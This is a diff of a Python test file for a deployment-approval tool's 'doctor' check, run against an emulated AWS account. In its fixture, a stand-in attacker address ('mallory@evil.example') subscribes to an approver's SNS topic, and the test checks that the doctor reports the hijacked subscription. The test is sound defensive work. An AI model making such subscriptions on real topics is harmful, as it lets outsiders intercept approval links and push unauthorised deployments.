@@ -38,11 +38,16 @@ def versioning_suspended(aws: EmbeddedAws, bucket: str) -> Iterator[None]:
 
 
 @contextmanager
-def stranger_subscribed(aws: EmbeddedAws, topic: str) -> Iterator[None]:
+def stranger_subscribed(aws: EmbeddedAws, approver: str) -> Iterator[str]:
+    """mallory on the approver's own topic: the subscription's ARN."""
+    from ecs_handoff.approvals import channel
+    from ecs_handoff_embedded.world import ACCOUNT_ID, REGION
+
     sns = aws.client("sns")
+    topic = f"arn:aws:sns:{REGION}:{ACCOUNT_ID}:{channel.topic_name('prod', approver)}"
     arn = sns.subscribe(TopicArn=topic, Protocol="email", Endpoint="mallory@evil.example")["SubscriptionArn"]
     try:
-        yield
+        yield str(arn)
     finally:
         sns.unsubscribe(SubscriptionArn=arn)
 
@@ -53,6 +58,7 @@ def test_doctor_a_correct_install_is_all_ok(embedded: EmbeddedAws, capsys: pytes
     assert code == 0 and report["ok"] is True
     items = {f["item"] for f in report["findings"]}
     assert {"approver alice@example.com", "IAM of handoff-prod-approval-page", "link-signing secret"} <= items
+    assert {"approver alice@example.com topic policy", "approver bob@example.com topic policy"} <= items
     assert "service api deployment circuit breaker" in items
     assert {
         f"event rule handoff-prod-{r}" for r in ("artifact-uploaded", "execution-ended", "ecs-deployment-state")
@@ -60,11 +66,11 @@ def test_doctor_a_correct_install_is_all_ok(embedded: EmbeddedAws, capsys: pytes
 
 
 def test_doctor_names_each_broken_item_and_exits_1(embedded: EmbeddedAws, capsys: pytest.CaptureFixture[str]) -> None:
-    # GIVEN versioning suspended, a stranger on the approvals topic, and the page unable to resume workflows
+    # GIVEN versioning suspended, a stranger on alice's topic, and the page unable to resume workflows
     stack = embedded.stacks["prod"]
     with (
         versioning_suspended(embedded, stack.outputs["ArtifactBucketName"]),
-        stranger_subscribed(embedded, stack.outputs["ApprovalsTopicArn"]),
+        stranger_subscribed(embedded, "alice@example.com") as stranger,
         narrowed(embedded, function_role(embedded, "handoff-prod-approval-page"), "states:SendTaskSuccess"),
     ):
         code, report = doctor("prod", capsys)
@@ -72,7 +78,10 @@ def test_doctor_names_each_broken_item_and_exits_1(embedded: EmbeddedAws, capsys
     found = problems(report)
     assert code == 1 and report["ok"] is False
     assert found["bucket prod-ecsdef-123456789012 versioning"] == "versioning is Suspended"
-    assert found["approvals topic subscribers"] == "not a registered approver: mallory@evil.example"
+    assert found["approver alice@example.com"] == (
+        f"subscription {stranger} (email mallory@evil.example) on alice@example.com's approval topic "
+        "handoff-prod-approver-ff8d9819fc0e12bf is not theirs and would receive their links"
+    )
     assert found["IAM of handoff-prod-approval-page"] == "denied: states:SendTaskSuccess on * (implicitDeny)"
     assert len(found) == 3
     fixes = {f["item"]: f["fix"] for f in report["findings"] if not f["ok"]}
